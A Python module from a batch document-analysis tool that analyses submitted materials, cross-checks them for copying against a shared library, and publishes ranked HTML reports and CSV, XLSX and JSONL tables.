"""Batch: a folder of submissions to one ranked table, a page per document and an overview.

``run(paths, out)`` makes three streaming passes; the parent holds one small entry per document:

1. analyse (parallel): the files whose bytes, name and settings are not in the cache are
   analysed by the worker's own :class:`~analyzer.pipeline.Analyzer` (copy detection
   comes in pass 3), up to :data:`~analyzer.limits.CHUNK_DOCUMENTS` files per task, every stage over
   the chunk (:meth:`~analyzer.pipeline.Analyzer.analyze_paths`: the same reports as one by one,
   faster), and each report object stored in ``OUT/.jingzi/cache/analysis``; a chunk that
   fails, runs out of time or kills its worker is analysed again file by file;
2. library: the user's library (or an empty one) plus every readable document of the
   batch, in ``OUT/.jingzi/batch-library.sqlite``; rebuilt only when either changed;
3. cross-check (parallel): each document is checked against that library, so against
   the other documents of the batch and the references (the detector skips the
   document's own name); copy objects are cached by name, text and library
   (``cache/copy``). Workers write ``reports/<name>.html``; the parent writes
   ``results.jsonl`` in input order.

``results.csv`` (UTF-8 with BOM, for Excel), ``results.xlsx`` and ``index.html`` are then
built by reading ``results.jsonl`` back once into ``OUT/.jingzi/table.sqlite``
(:class:`ResultTable`) and writing each from a stream of its rows, so the parent's memory
stays flat in the number of documents and copy pairs. A rerun analyses only new or changed
files; if any document changed, every document is cross-checked again (any may copy from it).

Passes 1 and 3 run in :class:`~analyzer.workers.WorkerPool` workers: a document over its
time budget gets a ``timeout`` row, one that kills its worker twice a ``worker_died`` row,
and the rest of the batch goes on. A run writes its pages and tables into
``OUT/.jingzi/staging`` and then publishes them (:func:`publish`): the previous run's tables
and overview go first, then the pages, then the new tables and overview, so a killed run
never leaves one run's ``index.html`` beside another's pages; the next run finishes an
interrupted publication. Only files listed in ``OUT/.jingzi/published.sqlite`` (what jingzi
wrote) are ever deleted.

Example: ``run(["data/samples"], "out", jobs=2).failed == 0``.
"""
from __future__ import annotations

import csv
import hashlib
import json
import os
import shutil
import sqlite3
import time
from collections import Counter
from contextlib import closing
from dataclasses import dataclass, field
from pathlib import Path
from typing import TYPE_CHECKING, Iterator

from rich.console import Console
from rich.progress import (
    BarColumn,
    MofNCompleteColumn,
    Progress,
    TextColumn,
    TimeElapsedColumn,
    TimeRemainingColumn,
)

from . import __version__
from .errors import JingziError, warning, warning_flag
from .html import (
    COPY_FLAG,
    CRITERION_LABEL,
    MAX_CLUSTERS,
    MAX_PAIRS,
    SUBSTITUTION_LABEL,
    Cluster,
    href,
    overview_page,
    pair_href,
    pair_page,
    report_page,
)
from .ingest import display_name, expand_paths, open_regular
from .limits import CHUNK_DOCUMENTS, DOCUMENT_SECONDS, MAX_BINARY_BYTES
from .report import Report
from .resources import DATA_DIR, MODELS_DIR
from .unionfind import UnionFind
from .workers import WorkerPool

if TYPE_CHECKING:
    import numpy as np

CHUNK_TASKS = 8  # pass 1 cuts its files into at least this many tasks (when it has as many): work for every worker
CLUSTER_MIN = 0.1  # a source this large links two documents (SPEC: independent materials stay < 0.1)
TABLES = ("results.jsonl", "results.csv", "results.xlsx", "index.html")  # published last, removed first


@dataclass
class Entry:
    """One input document as the parent tracks it."""
    path: str                  # as the file system knows it (may hold undecodable bytes)
    file: str                  # the path as shown in reports and tables (valid Unicode)
    name: str
    page: str                  # its page's file name under reports/
    ident: str = ""            # its name in the batch: the file name, or the path when names repeat
    key: str | None = None     # analysis cache key; None when the file cannot be read
    opinions: str | None = None  # its opinions list (``--opinions DIR``: NAME.opinions.txt …)
    sha256: str | None = None  # of the normalised text
    error: dict | None = None
    meta: dict = field(default_factory=dict)  # author, unit, year, date (see analyzer.provenance)


@dataclass
class Summary:
    documents: int
    failed: int
    analysed: int
    cached: int
    seconds: float
    out: Path
    phases: dict[str, float]  # seconds per pass: analyse, library, crosscheck, tables
    rows: ResultTable         # the result table, iterated in rank order (see :func:`summarise`)


def run(paths, out, library: str | None = None, jobs: int | None = None, rubric: str = "four-styles",
        progress: bool = True, timeout: float = DOCUMENT_SECONDS, scheduler: str | None = None,
        bar=None, kind: str | None = None, opinions: str | None = None,
        meta: dict[str, dict] | None = None) -> Summary:
    """Analyse and cross-check every document under ``paths``; write the batch outputs to ``out``.
    With ``scheduler`` (a Dask scheduler address) the passes run on that cluster
    (:mod:`analyzer.cluster`); the outputs are the same. ``bar`` replaces the terminal progress
    bar: a context manager with rich's ``add_task(description, total=)`` and ``advance(task)``
    (the web workbench records progress so). ``kind`` forces every document's kind;
    ``opinions`` is a folder with one opinions list per material, matched by name (``张三.docx``
    ↔ ``张三.opinions.txt``/``.docx``/``.xlsx``). ``meta``: file name or path -> author, unit,
    year, date (a ``--meta`` sidecar CSV read by :func:`analyzer.provenance.read_sidecar`); a
    docx's own core properties fill the gaps.
    """
    from .opinions import is_opinions_list, list_for

    start = time.perf_counter()
    out = Path(out)
    state = out / ".jingzi"
    finish_publishing(out)  # a run killed while publishing is completed first
    staging = state / "staging"
    shutil.rmtree(staging, ignore_errors=True)
    (staging / "reports").mkdir(parents=True)
    cache = Cache(state / "cache")
    named = {str(p) for p in paths}
    entries = _entries([f for f in expand_paths([str(p) for p in paths]) if f in named or not is_opinions_list(f)],
                       meta)
    for entry in entries:
        found = list_for(entry.path, opinions) if opinions else None
        entry.opinions = str(found) if found else None
    settings = settings_digest(rubric, kind)
    pools = pool_factory(max(1, jobs or len(os.sched_getaffinity(0))), timeout, scheduler)
    bar = bar or Progress(TextColumn("{task.description}"), BarColumn(), MofNCompleteColumn(), TimeElapsedColumn(),
                          TextColumn("ETA"), TimeRemainingColumn(), console=Console(stderr=True),
                          disable=not progress)
    with bar:
        analysed = _analyse_all(entries, settings, rubric, cache, pools, bar, kind)
        phases = {"analyse": time.perf_counter() - start}
        lib_path = state / "batch-library.sqlite"
        lib_digest = build_library(entries, library, lib_path, cache, bar, pools)
        phases["library"] = time.perf_counter() - start - sum(phases.values())
        copy_keys = _crosscheck_all(entries, lib_path, _hash(settings, lib_digest), cache, staging, pools, bar)
        phases["crosscheck"] = time.perf_counter() - start - sum(phases.values())
    rows = read_results(staging / "results.jsonl", entries, state / "table.sqlite")
    write_csv(rows, staging / "results.csv")
    write_xlsx(rows, staging / "results.xlsx")
    meta = {"analysed": analysed, "cached": len(entries) - analysed, "rubric": rubric, "version": __version__}
    write_overview(rows, meta, staging / "index.html")
    publish(out)
    cache.prune("analysis", {e.key for e in entries if e.key})
    cache.prune("copy", copy_keys)
    phases["tables"] = time.perf_counter() - start - sum(phases.values())
    return Summary(len(entries), sum(e.error is not None for e in entries), analysed,
                   len(entries) - analysed, time.perf_counter() - start, out, phases, rows)


def _entries(files: list[str], sidecar: dict[str, dict] | None = None) -> list[Entry]:
    """One entry per file; files sharing a name (in different folders) are told apart by path."""
    from .provenance import file_meta

    names = Counter(display_name(Path(path).name) for path in files)
    seen: Counter[str] = Counter()
    entries = []
    for path in files:
        name = display_name(Path(path).name)
        seen[name] += 1
        entries.append(Entry(path, display_name(path), name,
                             f"{name}.html" if seen[name] == 1 else f"{name}~{seen[name]}.html",
                             ident=name if names[name] == 1 else display_name(path),
                             meta=file_meta(path, sidecar)))
    return entries


# --------------------------------------------------------------------------- publishing

MANIFEST = "published.sqlite"  # in OUT/.jingzi: what jingzi wrote in OUT, and the publication under way
MANIFEST_SCHEMA = """
CREATE TABLE IF NOT EXISTS published(rel TEXT PRIMARY KEY);  -- the files of the last published run
CREATE TABLE IF NOT EXISTS staged(rel TEXT PRIMARY KEY);     -- the files of the run being published
CREATE TABLE IF NOT EXISTS publishing(flag INTEGER);         -- a row while a publication is under way
"""


def publish(out: Path) -> None:
    """Move the run in ``OUT/.jingzi/staging`` into ``out`` (see the module docstring). The file
    names are kept in SQLite (:data:`MANIFEST`), one row per page, never as one list in memory:
    a batch of 3,000 materials writes 50,000 pages (a page per material and per close source)."""
    state = out / ".jingzi"
    with closing(_manifest_db(state)) as db, db:
        db.execute("DELETE FROM staged")
        db.executemany("INSERT INTO staged VALUES (?)", ((rel,) for rel in _files_under(state / "staging")))
        db.execute("INSERT INTO publishing VALUES (1)")
    finish_publishing(out)


def _files_under(root: Path | str, prefix: str = "") -> Iterator[str]:
    """The files under ``root`` as relative POSIX paths, one at a time: strings from
    ``os.scandir``, never a list of a folder's names (``reports/`` holds 50,000 pages at 3,000
    materials; ``Path.rglob`` held about 30 MB more there)."""
    with os.scandir(root) as found:
        for entry in found:
            if entry.is_dir(follow_symlinks=False):
                yield from _files_under(entry.path, prefix + entry.name + "/")
            elif entry.is_file():
                yield prefix + entry.name


def finish_publishing(out: Path) -> None:
    """Carry out the publication recorded in ``OUT/.jingzi/published.sqlite``, if any; every step
    can be repeated, so a run killed half-way through is finished by the next one."""
    state = out / ".jingzi"
    if not any((state / name).exists() for name in (MANIFEST, "manifest.json", "publishing.json")):
        return
    staging = state / "staging"
    with closing(_manifest_db(state)) as db:
        if db.execute("SELECT 1 FROM publishing").fetchone() is None:
            return

        def rels(query: str) -> Iterator[str]:
            return (rel for rel, in db.execute(query))

        def listed(table: str, rel: str) -> bool:
            return db.execute(f"SELECT 1 FROM {table} WHERE rel = ?", (rel,)).fetchone() is not None

        if not all(map(_ours, rels("SELECT rel FROM staged UNION ALL SELECT rel FROM published"))):
            raise ValueError(f"{state / MANIFEST} names files outside {out}: delete it")
        for rel in TABLES:  # no overview or table of the old run may sit beside the new pages
            if listed("staged", rel) or listed("published", rel):
                (out / rel).unlink(missing_ok=True)
        (out / "reports").mkdir(parents=True, exist_ok=True)
        for rel in rels("SELECT rel FROM staged ORDER BY rel"):
            if rel not in TABLES and (staging / rel).exists():
                os.replace(staging / rel, out / rel)
        for rel in rels("SELECT rel FROM published WHERE rel NOT IN (SELECT rel FROM staged)"):  # ours only
            (out / rel).unlink(missing_ok=True)
        for rel in TABLES:
            if listed("staged", rel) and (staging / rel).exists():
                os.replace(staging / rel, out / rel)
        with db:
            db.execute("DELETE FROM published")
            db.execute("INSERT INTO published SELECT rel FROM staged")
            db.execute("DELETE FROM staged")
            db.execute("DELETE FROM publishing")
    shutil.rmtree(staging, ignore_errors=True)


def _manifest_db(state: Path) -> sqlite3.Connection:
    """The manifest database in ``state``; the JSON manifest of earlier versions (``manifest.json``,
    ``publishing.json``: lists of every file) is moved into it once."""
    state.mkdir(parents=True, exist_ok=True)
    db = sqlite3.connect(state / MANIFEST)
    db.executescript(MANIFEST_SCHEMA)
    old, plan = (_read_json(state / name) for name in ("manifest.json", "publishing.json"))
    if old or plan:
        with db:
            db.execute("DELETE FROM published")
            db.executemany("INSERT OR IGNORE INTO published VALUES (?)",
                           ((rel,) for rel in plan.get("old", old.get("files", []))))
            if plan:
                db.execute("DELETE FROM staged")
                db.executemany("INSERT OR IGNORE INTO staged VALUES (?)", ((rel,) for rel in plan["new"]))
                db.execute("INSERT INTO publishing VALUES (1)")
        for name in ("publishing.json", "manifest.json"):
            (state / name).unlink(missing_ok=True)
    return db


def _ours(rel: str) -> bool:
    """Whether ``rel`` is a path jingzi writes in OUT: a table, the overview or a page."""
    parts = rel.split("/")
    return rel in TABLES or len(parts) == 2 and parts[0] == "reports" and parts[1] not in ("", ".", "..")


def _read_json(path: Path) -> dict:
    try:
        return json.loads(path.read_text(encoding="utf-8"))
    except (OSError, ValueError):
        return {}


# --------------------------------------------------------------------------- cache

def _hash(*parts: str) -> str:
    return hashlib.sha256("\0".join(parts).encode("utf-8")).hexdigest()


def settings_digest(rubric: str, kind: str | None = None) -> str:
    """What a report depends on besides the document: version, rubric, forced kind, code, models,
    and the data the runtime reads (what the wheel ships: not the training data)."""
    runtime_data = [p for pattern in ("*.txt", "*.tsv", "lexicons/*.yaml", "rubrics/*.yaml")
                    for p in DATA_DIR.glob(pattern)]
    files = [*Path(__file__).parent.glob("*.py"), *MODELS_DIR.glob("*.pkl.gz"), *MODELS_DIR.glob("*.json"),
             *runtime_data]
    if Path(rubric).suffix:
        files.append(Path(rubric))
    h = hashlib.sha256(f"{__version__}\0{rubric}\0{kind or ''}".encode())
    for f in sorted(files):
        h.update(f.name.encode() + b"\0" + f.read_bytes())
    return h.hexdigest()


def _file_key(path: str, settings: str, opinions: str | None = None) -> str | None:
    """Cache key of a document: settings, name, bytes, and the bytes of its opinions list."""
    try:  # never a blocking open: a FIFO is refused here and by the analyser
        fd = open_regular(path, MAX_BINARY_BYTES)
    except JingziError:  # missing, a folder, a FIFO, too large: the analyser says why
        return None
    try:
        with os.fdopen(fd, "rb") as fh:
            digest = hashlib.file_digest(fh, "sha256").hexdigest()
        if opinions:
            with open(opinions, "rb") as fh:
                digest += hashlib.file_digest(fh, "sha256").hexdigest()
    except OSError:
        return None
    return _hash(settings, display_name(Path(path).name), digest)


class Cache:
    """JSON objects in ``root/<kind>/<key>.json``, written atomically."""

    def __init__(self, root: Path):
        self.root = Path(root)

    def get(self, kind: str, key: str) -> dict | None:
        try:
            return json.loads((self.root / kind / f"{key}.json").read_text(encoding="utf-8"))
        except (OSError, ValueError):
            return None

    def put(self, kind: str, key: str, value: dict) -> None:
        path = self.root / kind / f"{key}.json"
        path.parent.mkdir(parents=True, exist_ok=True)
        tmp = path.with_suffix(f".{os.getpid()}.tmp")
        tmp.write_text(json.dumps(value, ensure_ascii=False), encoding="utf-8")
        os.replace(tmp, path)

    def prune(self, kind: str, keep: set[str]) -> None:
        """Drop the entries of ``kind`` not in ``keep``: the cache stays the size of the batch."""
        for path in (self.root / kind).glob("*.json"):
            if path.stem not in keep:
                path.unlink()


# --------------------------------------------------------------------------- workers

_worker: dict = {}


def _failure(exc: Exception) -> dict:
    return JingziError("analysis_failed", f"分析出错 / analysis failed: {type(exc).__name__}: {exc}").to_dict()


def _init_analyse(rubric: str, kind: str | None = None) -> None:
    from .pipeline import Analyzer

    try:
        _worker["analyzer"] = Analyzer(rubric=rubric, kind=kind)
        _worker["analyzer"].copy_detector = None  # pass 3 checks copying against the whole batch
    except Exception as exc:  # e.g. a model missing: every document reports why
        _worker["failure"] = _failure(exc)


def _analyse(path: str, key: str | None, cache_root: str, opinions: str | None = None) -> tuple[str | None, dict | None]:
    """Analyse one file (with its opinions list, if any) and cache its report (worker): (text sha256, error)."""
    return _analyse_many([(path, key, cache_root, opinions)])[0]


def _analyse_many(calls: list[tuple[str, str | None, str, str | None]]) -> list[tuple[str | None, dict | None]]:
    """:func:`_analyse` of each (path, cache key, cache root, opinions list) call (worker), the files
    analysed together (:meth:`~analyzer.pipeline.Analyzer.analyze_paths`); when that fails, each
    file again on its own, so that only a failing file gets the error."""
    from .opinions import read_list

    if "failure" in _worker:
        return [(None, _worker["failure"])] * len(calls)
    listed = []
    for _, _, _, opinions in calls:
        try:
            listed.append(read_list(opinions) if opinions else None)
        except JingziError as exc:  # the material is still analysed; the warning says why
            listed.append(exc)
    try:
        reports = _worker["analyzer"].analyze_paths([path for path, _, _, _ in calls],
                                                    [None if isinstance(x, JingziError) else x for x in listed])
        found = []
        for report, unread, (_, _, _, opinions) in zip(reports, listed, calls):
            if isinstance(unread, JingziError) and report.ok:
                report.warnings.append(warning("opinions_unreadable", f"{Path(opinions).name}: {unread.message}"))
            found.append(report.to_dict())
    except Exception as exc:  # a failing stage must not stop the batch
        return [(None, _failure(exc))] if len(calls) == 1 else [_analyse(*call) for call in calls]
    for d, (_, key, cache_root, _) in zip(found, calls):
        if key:
            Cache(cache_root).put("analysis", key, d)
    return [(d.get("sha256"), d.get("error")) for d in found]


def copy_detector(library: str | Path):
    """The one place copy detection plugs in: a detector over the batch library, whose index
    is held in memory (nothing writes the library during the cross-check), reading the
    documents prepared in the library pass (:func:`prepared_path`) when they are there."""
    from .copydetect import CopyDetector
    from .fingerprint import PreparedStore
    from .library import Library

    detector = CopyDetector.default(library=Library(library))
    detector.library.freeze()
    if prepared_path(Path(library)).is_file():
        detector.store = PreparedStore(prepared_path(Path(library)), detector.fingerprinter)
    return detector


def _init_crosscheck(library: str, pages: dict[str, str], metas: dict[str, dict]) -> None:
    _worker["links"] = {name: href(page) for name, page in pages.items()}
    _worker["metas"] = metas
    try:
        _worker["detector"] = copy_detector(library)
    except Exception as exc:
        _worker["failure"] = _failure(exc)


def cross_check(detector, ident: str, report: Report, metas: dict[str, dict], twins: list[str]) -> dict:
    """The copy object of one batch document: checked against the batch library without
    itself, with its identical twins (which the library holds once) as peers, headings and
    noise out of the ratios, and every source related by :func:`analyzer.provenance.relate`
    (``metas``: ident -> metadata of every batch document)."""
    from .provenance import annotate

    text = report.text()
    for twin in twins:
        detector.add_peer(twin, text)
    try:
        copy = detector.check(ident, text, roles=[(p.start, p.end, p.role) for p in report.paragraphs])
    finally:
        for twin in twins:
            detector.remove_peer(twin)
    names = [s["source"] for s in copy["sources"] if s["source"] not in metas]
    known = detector.library.metadata(names) if detector.library is not None else {}
    return annotate(copy, metas.get(ident, {}), {**known, **metas}, set(metas))


def _crosscheck(entry: Entry, copy_key: str, cache_root: str, reports: str,
                twins: list[str]) -> tuple[str, dict | None]:
    """One document's JSON line (worker): its cached report plus its copy check; writes its page."""
    if entry.error:
        return json.dumps(Report.failed(entry.file, entry.name, entry.error).to_dict(), ensure_ascii=False), None
    cache = Cache(cache_root)
    try:
        if "failure" in _worker:
            raise RuntimeError(_worker["failure"]["message"])
        report = Report.from_dict(cache.get("analysis", entry.key))
        report.file = entry.file
        report.copy = cache.get("copy", copy_key)
        if report.copy is None:
            report.copy = cross_check(_worker["detector"], entry.ident, report, _worker["metas"], twins)
            cache.put("copy", copy_key, report.copy)
        d = report.to_dict()
        pairs = write_pairs(report, entry.page, Path(reports), _worker["detector"], twins)
        page = report_page(d, _worker["links"], home="../index.html", pairs=pairs)
        (Path(reports) / entry.page).write_text(page, encoding="utf-8")
    except Exception as exc:  # a failing check must not stop the batch
        error = _failure(exc)
        return json.dumps(Report.failed(entry.file, entry.name, error).to_dict(), ensure_ascii=False), error
    return json.dumps(d, ensure_ascii=False), None


def write_pairs(report: Report, page: str, reports: Path, detector, twins: list[str]) -> dict[str, str]:
    """Write a side-by-side page for each source sharing at least ``CLUSTER_MIN`` of the
    document; returns source name -> href of its page."""
    text, out = report.text(as_given=True), {}  # shown as given; the library's text as it holds it
    for n, source in enumerate(report.copy["sources"]):
        if source["ratio"] < CLUSTER_MIN:
            continue
        name = source["source"]
        source_text = text if name in twins else detector.library.get_text(name)
        file = pair_href(page, n)
        (reports / file).write_text(pair_page(report.name, text, source, source_text, home="../index.html",
                                              back=href(page)), encoding="utf-8")
        out[name] = href(file)
    return out


# --------------------------------------------------------------------------- passes

def pool_factory(jobs: int, timeout: float, scheduler: str | None = None):
    """How a pass gets its workers: ``pools(tasks, initializer, initargs)`` is a pool of at most
    ``jobs`` jingzi worker processes here, or the Dask cluster at ``scheduler``."""
    if scheduler:
        from .cluster import DaskPool

        return lambda tasks, initializer, initargs: DaskPool(scheduler, initializer, initargs, timeout)
    return lambda tasks, initializer, initargs: WorkerPool(max(1, min(jobs, tasks)), initializer, initargs,
                                                           timeout)


def _analyse_all(entries: list[Entry], settings: str, rubric: str, cache: Cache, pools, bar,
                 kind: str | None = None) -> int:
    """Pass 1: fill each entry's text hash and error, analysing cache misses; returns how many."""
    task = bar.add_task("分析 analyse", total=len(entries))
    todo = []
    for entry in entries:
        entry.key = _file_key(entry.path, settings, entry.opinions)
        d = cache.get("analysis", entry.key) if entry.key else None
        if d is None:
            todo.append(entry)
            continue
        entry.sha256, entry.error = d.get("sha256"), d.get("error")
        bar.advance(task)
    if todo:
        size = min(CHUNK_DOCUMENTS, max(1, len(todo) // CHUNK_TASKS))
        chunks = [todo[k:k + size] for k in range(0, len(todo), size)]
        alone = []  # the entries of chunks that failed as a whole (a timeout, a dead worker)
        with pools(len(chunks), _init_analyse, (rubric, kind)) as pool:
            calls = ([(e.path, e.key, str(cache.root), e.opinions) for e in chunk] for chunk in chunks)
            for chunk, results in zip(chunks, pool.map(_analyse_many, ((c,) for c in calls), lambda args, error: None)):
                if results is None:
                    alone += chunk
                    continue
                for entry, (sha, error) in zip(chunk, results):
                    entry.sha256, entry.error = sha, error
                    bar.advance(task)
            calls = ((e.path, e.key, str(cache.root), e.opinions) for e in alone)
            for entry, (sha, error) in zip(alone, pool.map(_analyse, calls, lambda args, error: (None, error))):
                entry.sha256, entry.error = sha, error
                bar.advance(task)
    return len(todo)


def build_library(entries: list[Entry], user_library: str | None, dest: Path, cache: Cache, bar,
                  pools=None) -> str:
    """Pass 2: make ``dest`` the user's library plus every readable document, and save each
    document prepared for copy detection (:func:`prepared_path`); returns the library's digest.
    With ``pools`` (see :func:`pool_factory`) the documents are prepared in workers and only
    written here."""
    ok = [e for e in entries if not e.error]
    members = "".join(f"{e.ident}\t{e.sha256}\n" for e in sorted(ok, key=lambda e: (e.ident, e.sha256)))
    digest = _hash(_file_state(user_library) if user_library else "", members)
    stamp = dest.with_name(dest.name + ".digest")
    if dest.exists() and stamp.exists() and stamp.read_text() == digest:
        return digest
    from .fingerprint import PreparedStore
    from .library import Library

    task = bar.add_task("建库 library", total=len(ok))
    tmp, tmp_prepared = (p.with_name(p.name + ".tmp") for p in (dest, prepared_path(dest)))
    _remove_db(tmp)
    _remove_db(tmp_prepared)
    if user_library:  # the backup API copies a WAL-mode database consistently, read-only
        src = sqlite3.connect(Path(user_library).resolve().as_uri() + "?mode=ro", uri=True)
        dst = sqlite3.connect(tmp)
        src.backup(dst)
        src.close()
        dst.close()

    def texts(lib: Library, store: PreparedStore, results):
        """Each document for the index, with its fingerprints; its preparation saved. A document
        whose worker failed is prepared here."""
        for e, result in zip(ok, results):
            if result is None:
                result = _prepared_text(lib.fingerprinter, e.key, str(cache.root))
            text, fingerprints, packed = result
            store.put_packed(text, packed)
            yield e.ident, text, None, fingerprints
            bar.advance(task)

    with Library(tmp) as lib, PreparedStore(tmp_prepared, lib.fingerprinter) as store:
        if pools is None or not ok:
            lib.add_many(texts(lib, store, (None for _ in ok)))
        else:
            with pools(len(ok), _init_library, (lib.fingerprinter.digest,)) as pool:
                calls = ((e.key, str(cache.root)) for e in ok)
                lib.add_many(texts(lib, store, pool.map(_prepare_text, calls, lambda args, error: None)))
    stamp.unlink(missing_ok=True)
    for built, final in ((tmp, dest), (tmp_prepared, prepared_path(dest))):
        _remove_db(final)
        os.replace(built, final)
    stamp.write_text(digest)
    return digest


def _init_library(digest: str) -> None:
    from .fingerprint import Fingerprinter

    _worker["fingerprinter"] = Fingerprinter()
    if _worker["fingerprinter"].digest != digest:  # other settings than the library's: the parent prepares
        _worker["failure"] = _failure(ValueError("fingerprint settings differ from the library's"))


def _prepare_text(key: str, cache_root: str) -> tuple[str, np.ndarray, bytes]:
    """One document for the library (worker): see :func:`_prepared_text`."""
    if "failure" in _worker:
        raise RuntimeError(_worker["failure"]["message"])
    return _prepared_text(_worker["fingerprinter"], key, cache_root)


def _prepared_text(fingerprinter, key: str, cache_root: str) -> tuple[str, np.ndarray, bytes]:
    """The text of an analysed document, its fingerprints and its packed preparation."""
    text = Report.from_dict(Cache(cache_root).get("analysis", key)).text()
    prepared = fingerprinter.prepare(text)
    return text, prepared.fingerprints, fingerprinter.pack(prepared)


def prepared_path(library: Path) -> Path:
    """Where the batch keeps its documents prepared for copy detection, beside its library."""
    return library.with_name("batch-prepared.sqlite")


def _file_state(path: str) -> str:
    """Identity of the user's library: path, size and mtime of the file and of a non-empty WAL."""
    parts = [str(Path(path).resolve())]
    for p in (Path(path), Path(path + "-wal")):
        st = p.stat() if p.exists() else None
        if st and st.st_size:  # reading leaves an empty WAL behind
            parts.append(f"{st.st_size}:{st.st_mtime_ns}")
    return "|".join(parts)


def _remove_db(path: Path) -> None:
    for p in (path, Path(f"{path}-wal"), Path(f"{path}-shm")):
        p.unlink(missing_ok=True)


def _crosscheck_all(entries: list[Entry], lib_path: Path, lib_key: str, cache: Cache, staging: Path,
                    pools, bar) -> set[str]:
    """Pass 3: write the pages and ``results.jsonl`` (in input order) into ``staging``; returns
    the copy cache keys used."""
    task = bar.add_task("互查 cross-check", total=len(entries))
    ok = [e for e in entries if not e.error]
    metas = {e.ident: e.meta for e in ok}
    by_text: dict[str, list[str]] = {}
    for e in ok:
        by_text.setdefault(e.sha256, []).append(e.ident)
    twins = [[t for t in by_text.get(e.sha256, ()) if t != e.ident] for e in entries]
    everyone = json.dumps(sorted(metas.items()), ensure_ascii=False)  # a relation depends on both dates
    keys = [_hash(lib_key, e.ident, e.sha256 or "", everyone, *t) for e, t in zip(entries, twins)]
    pages = {e.ident: e.page for e in ok}

    def failed(args: tuple, error: dict) -> tuple[str, dict]:
        entry = args[0]
        return json.dumps(Report.failed(entry.file, entry.name, error).to_dict(), ensure_ascii=False), error

    with pools(len(entries), _init_crosscheck, (str(lib_path), pages, metas)) as pool, \
            open(staging / "results.jsonl", "w", encoding="utf-8") as fh:
        calls = ((e, k, str(cache.root), str(staging / "reports"), t) for e, k, t in zip(entries, keys, twins))
        for entry, (line, error) in zip(entries, pool.map(_crosscheck, calls, failed)):
            fh.write(line + "\n")
            entry.error = entry.error or error
            bar.advance(task)
    return {k for e, k in zip(entries, keys) if not e.error}


# --------------------------------------------------------------------------- table

def summarise(d: dict) -> dict:
    """The table row of one report object; a value whose stage did not run stays None."""
    cov, summ, copy, depth = (d.get(k) for k in ("coverage", "summary_like", "copy", "depth"))
    sources = copy["sources"] if copy else []
    top = sources[0] if sources else None
    likely = next((s for s in sources if s.get("likely_source") == "source"), None)
    flags = [warning_flag(w["code"]) for w in d.get("warnings", [])]
    if summ and summ.get("flagged"):
        flags.append("像工作总结 work_summary")
    flags += copy_flags(sources)
    return {
        "rank": None, "name": d["name"], "file": d["file"], "chars": d.get("chars"),
        "kind": d["kind"]["id"] if d.get("kind") else None,
        "kind_label": d["kind"]["label"] if d.get("kind") else None,
        "labels": {cid: c["label"] for cid, c in (cov or {}).items()},
        "scores": {cid: c["score"] for cid, c in cov.items()} if cov is not None else None,
        "covered": {cid: c["covered"] for cid, c in cov.items()} if cov is not None else None,
        "missing": [c["label"] for c in cov.values() if not c["covered"]] if cov is not None else None,
        "summary_like": summ["ratio"] if summ else None,
        "copy": copy["ratio"] if copy else None,
        "total_copy": copy.get("total_ratio") if copy else None,
        "copied_chars": copy.get("copied_chars") if copy else None,
        "copy_sections": {k: v["ratio"] for k, v in copy.get("sections", {}).items()} if copy else None,
        "top_source": top["source"] if top else None,
        "top_source_ratio": top["ratio"] if top else None,
        "top_relation": relation(top) if top else None,
        "likely_source": likely["source"] if likely else None,
        "depth": depth["score"] if depth else None,
        "criteria": depth["criteria"] if depth else None,
        "substitutions": [SUBSTITUTION_LABEL.get(k, k) for k, v in depth["substitutions"].items() if v]
        if depth else None,
        "kind": (d.get("kind") or {}).get("id"),
        "share_genuine": (d.get("criticism") or {}).get("share_genuine"),
        "items_missing_fields": (d.get("rectification") or {}).get("items_missing_fields"),
        "answered_ratio": (d.get("opinions") or {}).get("answered_ratio"),
        "flags": flags,
        "error": d.get("error"),
    }


def relation(source: dict) -> str:
    """A source's relation (see :func:`analyzer.provenance.relate`); a copy object made
    without provenance says only where the source came from."""
    return source.get("relation") or ("copied_from" if source.get("origin") == "library" else "shared")


def copy_flags(sources: list[dict]) -> list[str]:
    """Flags in the wording the evidence allows: 雷同 for text shared inside the batch, a named
    source only for a reference-library document, an earlier-dated document or the same author."""
    flags = []
    big = [s for s in sources if s["ratio"] >= COPY_FLAG]
    if any(relation(s) == "shared" for s in big):
        flags.append("雷同≥20% shared")
    for s in big:
        if relation(s) == "copied_from":
            flags.append(f"抄袭来源 copied from {s['source']}")
        elif relation(s) == "self_copy":
            flags.append(f"照搬往年材料 self-copy of {s['source']}")
        elif s.get("likely_source") == "source":
            flags.append(f"可能抄自 likely copied from {s['source']}（{'；'.join(s.get('reasons', []))}）")
    return flags


TABLE_SCHEMA = """
CREATE TABLE rows(seq INTEGER PRIMARY KEY, failed, depth, ident, page, row);
CREATE INDEX rows_ident ON rows(ident);
CREATE TABLE edges(seq INTEGER PRIMARY KEY, document, source, a, b, ratio, source_ratio, relation, likely_source);
CREATE INDEX edges_document ON edges(document);
CREATE INDEX edges_pair ON edges(a, b);
CREATE TABLE nodes(name PRIMARY KEY, root);
CREATE INDEX nodes_root ON nodes(root);
"""
EDGE_FIELDS = ("document", "source", "ratio", "source_ratio", "relation", "likely_source")


class ResultTable:
    """The rows of a batch and its copy edges, kept in a SQLite file rather than in lists, so
    that the tables and the overview are written from streams and the parent's memory does
    not grow with the documents or the pairs. Iterating gives the rows (see :func:`summarise`,
    plus ``ident`` and ``page``) in rank order, deepest first and failures last, with ``rank``
    set; as often as needed. The file is rebuilt by every run (:func:`read_results`)."""

    def __init__(self, path: Path):
        _remove_db(path)
        self.db = sqlite3.connect(path)
        self.db.execute("PRAGMA journal_mode=OFF")  # a scratch file, rebuilt by the next run
        self.db.executescript(TABLE_SCHEMA)

    def add(self, row: dict, edges: list[dict]) -> None:
        """One document's row and its copy edges (document, source, ratio, source_ratio,
        relation, likely_source), in input order."""
        self.db.execute("INSERT INTO rows(failed, depth, ident, page, row) VALUES (?, ?, ?, ?, ?)",
                        (row["error"] is not None, row["depth"], row["ident"], row["page"],
                         json.dumps(row, ensure_ascii=False)))
        self.db.executemany("INSERT INTO edges(document, source, a, b, ratio, source_ratio, relation, likely_source)"
                            " VALUES (?, ?, ?, ?, ?, ?, ?, ?)",
                            ((ed["document"], ed["source"], *sorted((ed["document"], ed["source"])),
                              *(ed[k] for k in EDGE_FIELDS[2:])) for ed in edges))

    def __len__(self) -> int:
        return self.db.execute("SELECT COUNT(*) FROM rows").fetchone()[0]

    def __iter__(self) -> Iterator[dict]:
        query = "SELECT row FROM rows ORDER BY failed, depth IS NULL, -depth, seq"  # a stable sort by depth
        for i, (text,) in enumerate(self.db.execute(query), 1):
            row = json.loads(text)
            if row["depth"] is not None:
                row["rank"] = i
            yield row

